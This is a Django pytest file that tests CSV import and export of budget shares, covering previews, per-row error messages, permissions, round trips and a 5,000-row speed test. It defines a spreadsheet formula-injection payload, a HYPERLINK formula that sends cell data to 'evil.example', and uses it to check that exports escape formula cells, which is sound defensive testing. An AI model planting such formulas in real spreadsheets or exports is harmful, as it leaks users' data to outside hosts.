"""Importing and exporting shares: preview, faults by row, whole or not at all, round trip, and quickly."""

from __future__ import annotations

import csv
import io
import re
import time
from datetime import timedelta

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile

from budgets.models import BudgetNode, LedgerEntry, Share, ShareImport
from budgets.queries import today
from budgets.services import shares, tree
from scheduler.engine import CellCounts
from scheduler.services import cells
from tests.portal.test_pages import hidden, text_of

HYPERLINK = '=HYPERLINK("https://evil.example/?x="&A1,"open")'
ROWS = 5_000


def upload(client, text: str | bytes, name: str = "shares.csv"):
    """Send a file."""
    data = text.encode() if isinstance(text, str) else text
    return client.post("/imports/", {"file": SimpleUploadedFile(name, data, content_type="text/csv")})


def a_file(*rows: str) -> str:
    """A file with these rows."""
    return "parent,child,cluster,share %,from,until\n" + "\n".join(rows) + "\n"


def shares_of(code: str) -> list[tuple]:
    """All shares of a node's children."""
    rows = Share.objects.filter(parent__code=code).order_by("node__code", "valid_from")
    return list(rows.values_list("node__code", "basis_points", "valid_from", "valid_until"))


def downloaded(answer) -> bytes:
    """What a download holds."""
    assert answer.status_code == 200
    return b"".join(answer.streaming_content)


def test_a_file_is_previewed_then_applied(calm, as_person):
    client, day = as_person(calm.mia), today() + timedelta(days=1)
    before = (shares_of("A"), LedgerEntry.objects.count())
    shown = upload(client, a_file(f"A,A1,north,60,{day},", f"A,A2,north,40.00,{day},"))
    assert shown.status_code == 302
    assert (shares_of("A"), LedgerEntry.objects.count()) == before
    page = client.get(shown.headers["Location"])
    said = text_of(page)
    assert "It would change two of 2 rows" in said or "It would change 2 of 2 rows" in said
    assert "−10.00" in said
    assert "+15.00" in said
    form = {"action": hidden(page, "action"), "seen": hidden(page, "seen"), "reason": ""}
    assert client.post(shown.headers["Location"], form).status_code == 400
    form["reason"] = "summer plan"
    done = client.post(shown.headers["Location"], form, follow=True)
    assert "2 rows of shares.csv applied" in text_of(done)
    assert [(code, points) for code, points, start, _ in shares_of("A") if start == day] == [("A1", 6000), ("A2", 4000)]
    assert set(LedgerEntry.objects.filter(reason="summer plan").values_list("node_code", "person_id")) == {
        ("A1", calm.mia.pk), ("A2", calm.mia.pk),
    }  # fmt: skip
    count = LedgerEntry.objects.count()
    assert "nothing was changed again" in text_of(client.post(shown.headers["Location"], form, follow=True))
    assert LedgerEntry.objects.count() == count


def test_every_fault_is_named_and_nothing_is_stored(calm, as_person):
    client, day = as_person(calm.mia), today()
    data = a_file(
        f"A,A1,north,60,{day},", f"A,A9,north,1,{day},", f"LAB,B,north,1,{day},", f"A,A2,moon,1,{day},",
        "A,A2,north,many,2026-13-01,soon",
    )  # fmt: skip
    before = (shares_of("A"), shares_of("LAB"), LedgerEntry.objects.count())
    answer = upload(client, data)
    assert answer.status_code == 400
    said = text_of_any(answer)
    for words in (
        "3 child There is no node", "4 parent The shares of LAB are for its managers", "5 cluster There is no cluster",
        "6 share %", "6 from", "6 until",
    ):  # fmt: skip
        assert words in said
    assert (shares_of("A"), shares_of("LAB"), LedgerEntry.objects.count()) == before
    assert not ShareImport.objects.exists()


def text_of_any(answer) -> str:
    """What a page says, whatever its status."""
    answer.status_code, status = 200, answer.status_code
    said = text_of(answer)
    answer.status_code = status
    return said


@pytest.mark.parametrize(
    ("data", "words"),
    [
        (b"", "has no row"),
        (b"\x89PNG\r\n\x1a\n\x00", "not UTF-8"),
        (b"parent,child\nA,A1", "has no column"),
        (b"x" * (4 * 2**20 + 1), "larger than 4 MiB"),
    ],
)
def test_what_is_no_file_of_shares(calm, as_person, data, words):
    answer = upload(as_person(calm.mia), data)
    assert answer.status_code == 400
    assert words in text_of_any(answer)


def test_a_form_with_more_than_a_file_is_refused(calm, as_person):
    data = {"file": SimpleUploadedFile("a.csv", b"x"), "status": "applied"}
    answer = as_person(calm.mia).post("/imports/", data)
    assert answer.status_code == 400
    assert "There is no field &#x27;status&#x27; in this form." in answer.content.decode()


def test_a_preview_is_its_authors_alone_and_goes_stale(calm, as_person):
    client = as_person(calm.mia)
    path = upload(client, a_file(f"A,A1,north,60,{today()},")).headers["Location"]
    for other in (calm.max, calm.ben, calm.nil):
        assert as_person(other).get(path).status_code == 404
        assert as_person(other).post(path, {}).status_code == 404
    page = client.get(path)
    shares.set_shares(
        parent=calm.node["A"], cluster=calm.cluster, shares={calm.node["A1"]: 5_000}, valid_from=today(), by=None
    )
    form = {"action": hidden(page, "action"), "seen": hidden(page, "seen"), "reason": "x"}
    answer = client.post(path, form)
    assert answer.status_code == 409
    assert "changed since this preview" in text_of_any(answer)
    again = {**form, "seen": hidden(answer, "seen"), "action": hidden(answer, "action")}
    assert client.post(path, again).status_code == 302
    assert shares_of("A")[-2][1] == 6_000 or ("A1", 6_000) in [row[:2] for row in shares_of("A")]


def test_who_manages_nothing_learns_what_is_in_force_and_changes_nothing(calm, as_person):
    client = as_person(calm.nil)
    assert "You manage no node" in text_of(client.get("/imports/"))
    assert upload(client, a_file(f"A,A1,north,60,{today()},")).status_code == 400


def test_what_is_exported_can_be_imported_and_changes_nothing(calm, as_person):
    """With a project called like a formula, a move and a closed node in the books."""
    tree.rename(node=calm.node["A1"], name=HYPERLINK, by=None)
    tree.add_child(parent=calm.node["B"], kind="project", code="B2", name="-2+3", by=None)
    tree.move(node=calm.node["A2"], parent=calm.node["B"], by=None)
    cells.set_cells(node=calm.node["B"], cluster=calm.cluster, cells=CellCounts(node=1), by=None, reason="as agreed")
    client = as_person(calm.max)
    data = downloaded(client.get("/files/shares/?cluster=north"))
    text = data.decode("utf-8-sig")
    assert text.startswith("parent,child,name,cluster,share %,from,until,own nodes,own racks\r\n")
    assert "\"'=HYPERLINK(" in text
    assert ",70.00," in text
    assert not any(line.startswith(("=", "+", "-", "@")) for line in text.replace(",", "\n").splitlines())
    answer = upload(client, data)
    assert answer.status_code == 200
    assert f"would change nothing: all of its {text.count(chr(10)) - 1} rows" in text_of(answer)
    german = io.StringIO()
    for row in csv.reader(io.StringIO(text, newline="")):
        csv.writer(german, delimiter=";").writerow([re.sub(r"^(\d+)\.(\d\d)$", r"\1,\2", cell) for cell in row])
    assert ";70,00;" in german.getvalue()
    assert "would change nothing" in text_of(upload(client, german.getvalue()))
    (mine,) = [line for line in text.splitlines() if line.startswith("LAB,B,")]
    assert mine.endswith(",1,"), "a node of its own and no rack"
    answer = upload(client, text.replace(mine, f"{mine[:-2]}2,"))
    assert "own nodes B has 1 on north; a file of shares changes none" in text_of_any(answer)
    assert not ShareImport.objects.exists()


def big_file(calm) -> bytes:
    """5,000 rows with BOM, semicolons and decimal commas: ten spells for each of 500 children."""
    day = today()
    rows = ["parent;child;cluster;share %;from;until"]
    for number in range(500):
        for step in range(10):
            start, end = day + timedelta(days=7 * step), day + timedelta(days=7 * step + 7)
            rows.append(f"BIG;C{number};north;0,{10 + step};{start};{end}")
    return ("\r\n".join(rows) + "\r\n").encode("utf-8-sig")


def test_five_thousand_rows_preview_within_five_seconds(calm, as_person):
    big = tree.add_child(parent=calm.node["LAB"], kind="program", code="BIG", name="Big", by=None)
    BudgetNode.objects.bulk_create(
        BudgetNode(parent=big, kind="project", code=f"C{number}", name=f"c {number}", path=[]) for number in range(500)
    )
    for node in BudgetNode.objects.filter(parent=big):
        node.path = [*big.path, node.pk]
        node.save(update_fields=["path"])
    client, data = as_person(calm.max), big_file(calm)
    began = time.monotonic()
    answer = upload(client, data)
    page = client.get(answer.headers["Location"])
    took = time.monotonic() - began
    assert "It would change 5,000 of 5,000 rows" in text_of(page)
    assert took < 5
    form = {"action": hidden(page, "action"), "seen": hidden(page, "seen"), "reason": "a new plan"}
    began = time.monotonic()
    assert client.post(answer.headers["Location"], form).status_code == 302
    print(f"preview {took:.2f} s, applied in {time.monotonic() - began:.2f} s")  # shown with -s
    assert Share.objects.filter(parent=big).count() == ROWS
    assert LedgerEntry.objects.filter(reason="a new plan").count() == 500
